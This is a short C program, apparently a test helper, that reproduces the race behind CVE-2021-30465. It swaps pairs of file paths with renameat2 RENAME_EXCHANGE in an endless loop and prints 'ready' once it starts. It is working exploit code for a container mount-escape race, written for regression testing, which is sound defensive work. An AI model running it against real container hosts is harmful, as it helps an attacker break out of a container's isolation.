/* SPDX-License-Identifier: Apache-2.0 */
/*
 * CVE-2021-30465 from inside: attack_swap A B [A B]... exchanges the names of each pair, as fast as it can, until
 * it is killed. Prints "ready" once it is at work.
 */
#include <fcntl.h>
#include <stdio.h>

int main(int argc, char **argv)
{
	for (int i = 1; i + 1 < argc; i += 2) {
		if (renameat2(AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE) < 0) {
			perror(argv[i]);
			return 1;
		}
	}
	(void)printf("ready\n");
	(void)fflush(stdout);
	for (;;) {
		for (int i = 1; i + 1 < argc; i += 2)
			(void)renameat2(AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE);
	}
}
